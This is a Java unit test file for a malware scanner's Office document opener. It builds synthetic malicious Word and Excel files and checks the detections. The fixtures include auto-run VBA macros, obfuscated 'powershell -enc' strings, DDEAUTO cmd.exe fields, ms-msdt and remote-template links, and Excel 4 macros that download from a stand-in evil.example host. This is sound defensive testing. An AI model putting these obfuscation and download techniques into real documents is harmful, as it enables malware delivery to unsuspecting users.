package org.tocsin.readers.files.office;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.junit.jupiter.api.Test;
import org.tocsin.model.Gap;
import org.tocsin.readers.files.Facts;
import org.tocsin.readers.files.Opened;
import org.tocsin.testkit.CompoundWriter;
import org.tocsin.testkit.ZipWriter;

class OfficeOpenerTest {
    private static final String RUNS = "Sub AutoOpen()\r\n  Dim s\r\n"
            + "  s = StrReverse(\"llehs\") & Chr(46) & \"application\"\r\n"
            + "  CreateObject(\"WScript.Shell\").Run \"calc.exe\", 0\r\nEnd Sub\r\n";

    private static Opened open(byte[] bytes) {
        return Opened.by(new OfficeOpener(), bytes, "file");
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] word(Map<String, byte[]> more) {
        LinkedHashMap<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", utf8("<Types/>"));
        parts.put("_rels/.rels", utf8("<Relationships/>"));
        parts.put("word/document.xml", utf8("<w:document><w:body/></w:document>"));
        parts.putAll(more);
        return ZipWriter.stored(parts);
    }

    private static byte[] macros(String source) {
        return new CompoundWriter()
                .stream("WordDocument", new byte[64])
                        .macros("Macros", Map.of("Module1", source))
                        .bytes();
    }

    @Test
    void reads_the_source_of_a_macro_and_what_it_does() {
        Opened opened = open(macros(RUNS));
        assertThat(opened.all("Object.Kind")).containsExactly("word");
        assertThat(opened.all("Script.Source").getFirst()).contains("WScript.Shell");
        assertThat(opened.words()).contains("macro", "macro-runs-by-itself", "macro-starts-program");
        assertThat(opened.of("macro-runs-by-itself")).containsExactly("autoopen");
        assertThat(opened.facts().faults()).isEmpty();
    }

    @Test
    void puts_together_what_a_macro_hides() {
        String[] ways = {
            "x = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & \"shell -enc\"",
            "x = StrReverse(\"cne- llehsrewop\")",
            "x = Replace(\"p#o#w#e#r#s#h#e#l#l -enc\", \"#\", \"\")",
            "x = \"pow\" & \"ers\" + \"hell -enc\"",
            "For Each c In Array(112,111,119,101,114,115,104,101,108,108): x = x & Chr(c): Next",
            "a = Array(51,44,52,38,49,48,43,38,47,47)\r\nFor i = 0 To UBound(a)\r\nx = x & Chr(a(i) Xor 67)\r\nNext",
            "x = Join(Array(\"pow\", \"ersh\", \"ell\"), \"\")",
            "x = d(\"706f7765727368656c6c202d656e63\")",
            "x = \"cG93ZXJzaGVsbCAtZW5jIEFBQUE=\"",
            "x = Mid(\"zzpowershellzz\", 3, 10)",
            "Do While i < 10\r\ni = i + 1\r\nx = x & Mid(\"p_o_w_e_r_s_h_e_l_l_\", 2 * i - 1, 1)\r\nLoop",
            "x = dec(\"rqygtujgnn\", 2)"
        };
        String own = "Function d(h)\r\nFor i = 1 To Len(h) Step 2\r\nd = d & Chr(\"&H\" & Mid(h, i, 2))\r\nNext\r\n"
                + "End Function\r\nFunction dec(t As String, n) As String\r\nDim i As Long\r\nFor i = 1 To Len(t)\r\n"
                + "dec = dec & Chr(Asc(Mid(t, i, 1)) - n)\r\nNext i\r\nEnd Function\r\n";
        for (String way : ways) {
            Opened opened = open(macros("Sub Document_Open()\r\n" + way + "\r\nShell x, 0\r\nEnd Sub\r\n" + own));
            assertThat(opened.words()).as(way).contains("macro-hides-uses-interpreter", "macro-starts-program");
            assertThat(String.join("|", opened.all("Decoded"))).as(way).contains("powershell");
        }
    }

    @Test
    void ends_with_a_macro_that_does_not_end() {
        Opened opened = open(macros("Sub AutoOpen()\r\nDo\r\nx = x & \"a\"\r\nLoop While True\r\nEnd Sub\r\n"));
        assertThat(opened.words()).contains("macro-runs-by-itself");
        assertThat(opened.facts().faults()).extracting(one -> one.cause()).contains(Gap.Cause.LIMIT);
    }

    @Test
    void leaves_an_honest_macro_without_deeds() {
        Opened opened = open(macros("Private Sub Workbook_Open()\r\n  Sheets(\"Start\").Activate\r\n"
                + "  MsgBox \"Welcome, \" & Application.UserName\r\nEnd Sub\r\n"));
        assertThat(opened.words()).containsExactly("macro", "macro-runs-by-itself");
    }

    @Test
    void finds_modules_where_the_directory_is_gone() {
        byte[] bytes = new CompoundWriter()
                .stream("WordDocument", new byte[64]).stream("Macros/VBA/dir", new byte[] {1, 2, 3}).stream(
                                "Macros/VBA/_VBA_PROJECT", new byte[8])
                        .stream(
                                "Macros/VBA/Module1",
                                CompoundWriter.packed(utf8("Attribute VB_Name = \"Module1\"\r\n" + RUNS)))
                        .bytes();
        Opened opened = open(bytes);
        assertThat(opened.words()).contains("macro-project-damaged", "macro-runs-by-itself", "macro-starts-program");
        assertThat(opened.facts().faults()).extracting(one -> one.cause()).contains(Gap.Cause.DAMAGED);
    }

    @Test
    void tells_when_the_compiled_code_is_another() {
        CompoundWriter writer = new CompoundWriter().stream("WordDocument", new byte[64]);
        byte[] compiled = CompoundWriter.compiled("WScript.Shell", "powershell -w hidden http://evil.example/a");
        Opened stomped = open(writer.macros("Macros", Map.of("M", "Sub A()\r\nEnd Sub\r\n"), Map.of("M", compiled))
                .bytes());
        assertThat(stomped.words()).contains("macro-compiled-differs", "macro-uses-interpreter");
        assertThat(stomped.all("Url")).contains("http://evil.example/a");
        Opened honest = open(new CompoundWriter()
                .stream("WordDocument", new byte[64])
                        .macros(
                                "Macros",
                                Map.of("M", "Sub A()\r\nMsgBox \"Hello there\"\r\nMsgBox \"Good bye\"\r\nEnd Sub\r\n"),
                                Map.of("M", CompoundWriter.compiled("Hello there", "Good bye")))
                        .bytes());
        assertThat(honest.words()).doesNotContain("macro-compiled-differs");
    }

    @Test
    void follows_relations_that_lead_elsewhere() {
        Map<String, String> kinds = new LinkedHashMap<>();
        kinds.put("attachedTemplate|http://evil.example/t.dotm", "remote-template");
        kinds.put("oleObject|http://evil.example/x.html!", "remote-page-as-object");
        kinds.put(
                "oleObject|mhtml:http://evil.example/s.html!x-usc:http://evil.example/s.html",
                "opens-web-page-in-document");
        kinds.put("frame|http://evil.example/f", "remote-frame");
        kinds.put("image|\\\\evil.example\\s\\a.png", "picture-from-share");
        kinds.put("aFChunk|http://evil.example/c.rtf", "remote-part");
        kinds.put("hyperlink|ms-msdt:/id PCWDiagnostic", "starts-handler");
        kinds.forEach((relation, word) -> {
            String[] parts = relation.split("\\|");
            String xml = "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/x/" + parts[0]
                    + "\" Target=\"" + parts[1] + "\" TargetMode=\"External\"/></Relationships>";
            Opened opened = open(word(Map.of("word/_rels/document.xml.rels", utf8(xml))));
            assertThat(opened.of(word)).as(relation).containsExactly(parts[1]);
        });
        String link = "<Relationships><Relationship Type=\"x/hyperlink\" Target=\"https://example.org/\""
                + " TargetMode=\"External\"/></Relationships>";
        assertThat(open(word(Map.of("word/_rels/document.xml.rels", utf8(link))))
                        .words())
                .isEmpty();
    }

    @Test
    void joins_a_field_out_of_its_runs() {
        String xml =
                "<w:document><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>"
                        + "<w:r><w:instrText xml:space=\"preserve\">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k c</w:instrText></w:r>"
                        + "<w:r><w:instrText>alc.exe\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:document>";
        Opened opened = open(word(Map.of("word/document.xml", utf8(xml))));
        assertThat(opened.of("dde-auto").getFirst()).contains("cmd.exe").contains("calc.exe");
        String numbers =
                "<w:document><w:fldSimple w:instr=\" DDE &quot;x&quot; \"/><w:fldSimple w:instr=\"QUOTE 68 68 69 65"
                        + " 85 84 79 32 99 109 100\"/></w:document>";
        assertThat(open(word(Map.of("word/document.xml", utf8(numbers)))).words())
                .contains("dde", "dde-auto");
    }

    @Test
    void takes_a_packed_file_out_of_an_object() {
        byte[] object = new CompoundWriter()
                .stream(
                                "\u0001Ole10Native",
                                CompoundWriter.packaged("invoice.vbs", "C:\\t\\invoice.vbs", utf8("MsgBox 1")))
                        .classId("", "{0003000C-0000-0000-C000-000000000046}")
                        .bytes();
        Opened opened = open(word(Map.of("word/embeddings/oleObject1.bin", object)));
        assertThat(opened.words()).contains("object-package", "packs-file", "packs-program");
        assertThat(opened.facts().children()).anySatisfy(child -> {
            assertThat(child.name()).isEqualTo("invoice.vbs");
            assertThat(child.bytes()).isEqualTo(utf8("MsgBox 1"));
        });
    }

    @Test
    void tells_an_equation_that_overruns_its_editor() {
        byte[] equation = new byte[256];
        equation[0] = 28;
        byte[] records = {3, 1, 1, 3, 10, 10, 1, 8, 90, 90};
        System.arraycopy(records, 0, equation, 28, records.length);
        Arrays.fill(equation, 38, 38 + 48, (byte) 'A');
        String id = "{0002CE02-0000-0000-C000-000000000046}";
        byte[] bad = new CompoundWriter()
                .stream("Equation Native", equation).classId("", id).bytes();
        assertThat(open(bad).words()).contains("object-equation", "equation-font-overflow");
        byte[] honest = new byte[128];
        honest[0] = 28;
        byte[] fonts = {
            3,
            1,
            1,
            3,
            10,
            10,
            1,
            8,
            (byte) 0x81,
            0,
            'T',
            'i',
            'm',
            'e',
            's',
            ' ',
            'N',
            'e',
            'w',
            ' ',
            'R',
            'o',
            'm',
            'a',
            'n',
            0
        };
        System.arraycopy(fonts, 0, honest, 28, fonts.length);
        assertThat(open(new CompoundWriter()
                                .stream("Equation Native", honest)
                                        .classId("", id)
                                        .bytes())
                        .words())
                .containsOnly("object-equation");
    }

    @Test
    void tells_a_list_control_that_overruns() {
        byte[] contents = new byte[200];
        System.arraycopy(utf8("Cobj"), 0, contents, 20, 4);
        System.arraycopy(CompoundWriter.number(0x64), 0, contents, 24, 4);
        System.arraycopy(CompoundWriter.number(0x8282), 0, contents, 28, 4);
        System.arraycopy(CompoundWriter.number(0x8282), 0, contents, 32, 4);
        byte[] control = new CompoundWriter()
                .stream("Contents", contents)
                        .classId("", "{BDD1F04B-858B-11D1-B16A-00C0F0283628}")
                        .bytes();
        assertThat(open(control).words()).contains("object-mscomctl", "listview-overflow");
    }

    @Test
    void decompiles_old_excel_macros_and_works_them_out() {
        String sheet =
                "<xm:macrosheet xmlns:xm=\"x\"><sheetData><row><c r=\"A1\"><f>CHAR(99)&amp;\"alc\"&amp;\".exe\"</f></c></row>"
                        + "<row><c r=\"A2\"><f>EXEC(A1)</f></c></row><row><c r=\"A3\"><f>FORMULA(\"=EX\"&amp;\"EC(\"\"notepad.exe\"\")\",B1)</f></c></row>"
                        + "<row><c r=\"A4\"><f>CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://evil.example/a\",\"c:\\a\",0,0)</f></c></row>"
                        + "</sheetData></xm:macrosheet>";
        String workbook =
                "<workbook><sheets><sheet name=\"M\" sheetId=\"1\" state=\"veryHidden\" r:id=\"rId1\"/></sheets>"
                        + "<definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">M!$A$1</definedName></definedNames></workbook>";
        LinkedHashMap<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", utf8("<Types/>"));
        parts.put("_rels/.rels", utf8("<Relationships/>"));
        parts.put("xl/workbook.xml", utf8(workbook));
        parts.put(
                "xl/_rels/workbook.xml.rels",
                utf8("<Relationships><Relationship Id=\"rId1\" Target=\"macrosheets/sheet1.xml\"/></Relationships>"));
        parts.put("xl/macrosheets/sheet1.xml", utf8(sheet));
        Opened opened = open(ZipWriter.stored(parts));
        assertThat(opened.words())
                .contains("xlm-macro", "xlm-sheet-hidden", "xlm-runs-by-itself", "xlm-writes-formulas", "xlm-fetches");
        assertThat(opened.of("xlm-starts-program")).contains("EXEC(calc.exe)", "EXEC(notepad.exe)");
        assertThat(opened.all("Url")).contains("http://evil.example/a");
    }

    @Test
    void reads_old_excel_macros_in_the_old_format() {
        byte[] workbook = OldBook.withMacroSheet();
        Opened opened = open(new CompoundWriter().stream("Workbook", workbook).bytes());
        assertThat(opened.words()).contains("xlm-macro", "xlm-sheet-hidden", "xlm-runs-by-itself");
        assertThat(opened.of("xlm-starts-program")).containsExactly("EXEC(calc.exe)");
        assertThat(opened.all("Script.Source").getFirst()).contains("EXEC(\"cal\"&\"c.exe\")");
    }

    @Test
    void opens_what_office_saves_in_one_xml_file() {
        byte[] project =
                new CompoundWriter().macros("", Map.of("ThisDocument", RUNS)).bytes();
        String flat =
                "<?xml version=\"1.0\"?><pkg:package><pkg:part pkg:name=\"/word/document.xml\"><pkg:xmlData><w:document/>"
                        + "</pkg:xmlData></pkg:part><pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>"
                        + Base64.getMimeEncoder().encodeToString(project)
                        + "</pkg:binaryData></pkg:part></pkg:package>";
        assertThat(open(utf8(flat)).words()).contains("macro-runs-by-itself", "macro-starts-program");
        String old = "<?xml version=\"1.0\"?><w:wordDocument><w:docSuppData><w:binData w:name=\"editdata.mso\">"
                + Base64.getEncoder().encodeToString(activeMime(project))
                + "</w:binData></w:docSuppData></w:wordDocument>";
        assertThat(open(utf8(old)).words()).contains("macros-beside-page", "macro-runs-by-itself");
        assertThat(open(activeMime(project)).words()).contains("macros-beside-page", "macro-starts-program");
    }

    private static byte[] activeMime(byte[] project) {
        java.util.zip.Deflater deflater = new java.util.zip.Deflater();
        deflater.setInput(project);
        deflater.finish();
        byte[] packed = new byte[project.length + 100];
        int length = deflater.deflate(packed);
        deflater.end();
        byte[] whole = new byte[0x32 + length];
        System.arraycopy(utf8("ActiveMime"), 0, whole, 0, 10);
        System.arraycopy(packed, 0, whole, 0x32, length);
        return whole;
    }

    @Test
    void reads_macros_in_a_package_also_behind_a_broken_directory() {
        byte[] project =
                new CompoundWriter().macros("", Map.of("ThisDocument", RUNS)).bytes();
        byte[] document = word(Map.of("word/vbaProject.bin", project));
        assertThat(open(document).words()).contains("macro-runs-by-itself");
        Facts cut = new Facts(1 << 20);
        PackageDocument.tell(Parts.ofZip(Arrays.copyOf(document, document.length - 60)), cut);
        assertThat(cut.has("macro-runs-by-itself")).isTrue();
        assertThat(cut.faults()).extracting(one -> one.cause()).contains(Gap.Cause.DAMAGED);
    }

    @Test
    void gives_the_texts_of_properties_to_macros() {
        String source = "Sub AutoOpen()\r\nShell ActiveDocument.BuiltInDocumentProperties(\"Subject\")\r\nEnd Sub\r\n";
        byte[] project =
                new CompoundWriter().macros("", Map.of("ThisDocument", source)).bytes();
        byte[] document = word(Map.of(
                "word/vbaProject.bin",
                project,
                "docProps/core.xml",
                utf8("<cp:coreProperties><dc:subject>mshta http://evil.example/a</dc:subject></cp:coreProperties>")));
        assertThat(open(document).words()).contains("macro-hides-uses-interpreter");
    }

    @Test
    void says_that_a_locked_document_stayed_closed() {
        Opened opened = open(new CompoundWriter()
                .stream("EncryptionInfo", new byte[64]).stream("EncryptedPackage", new byte[64])
                        .bytes());
        assertThat(opened.words()).contains("locked-package", "locked");
        assertThat(opened.facts().faults()).extracting(one -> one.cause()).containsExactly(Gap.Cause.ENCRYPTED);
    }

    @Test
    void opens_what_office_opens_without_asking_and_what_a_word_opens() throws IOException, GeneralSecurityException {
        byte[] plain = word(Map.of());
        for (EncryptionMode mode : new EncryptionMode[] {EncryptionMode.agile, EncryptionMode.standard}) {
            Opened opened = open(locked(plain, mode, "VelvetSweatshop"));
            assertThat(opened.words()).as(mode.name()).contains("opens-with-standard-password");
            assertThat(opened.facts().children())
                    .singleElement()
                    .satisfies(child -> assertThat(child.bytes()).isEqualTo(plain));
            byte[] other = locked(plain, mode, "tocsin-2026");
            assertThat(open(other).words()).contains("locked");
            assertThat(LockedPackage.open(other, List.of("no", "tocsin-2026")))
                    .hasValueSatisfying(one -> assertThat(one.bytes()).isEqualTo(plain));
        }
    }

    private static byte[] locked(byte[] plain, EncryptionMode mode, String password)
            throws IOException, GeneralSecurityException {
        try (POIFSFileSystem file = new POIFSFileSystem()) {
            Encryptor encryptor = new EncryptionInfo(mode).getEncryptor();
            encryptor.confirmPassword(password);
            try (OutputStream out = encryptor.getDataStream(file)) {
                out.write(plain);
            }
            ByteArrayOutputStream whole = new ByteArrayOutputStream();
            file.writeFilesystem(whole);
            return whole.toByteArray();
        }
    }

    @Test
    void survives_every_cut_and_many_flips() {
        byte[] whole = macros(RUNS);
        for (int length = 0; length < whole.length; length += 97) {
            open(Arrays.copyOf(whole, length));
        }
        for (int at = 0; at < whole.length; at += 13) {
            byte[] flipped = whole.clone();
            flipped[at] ^= (byte) (at * 31 + 1);
            open(flipped);
        }
        assertThat(open(new byte[0]).words()).isEmpty();
    }
}
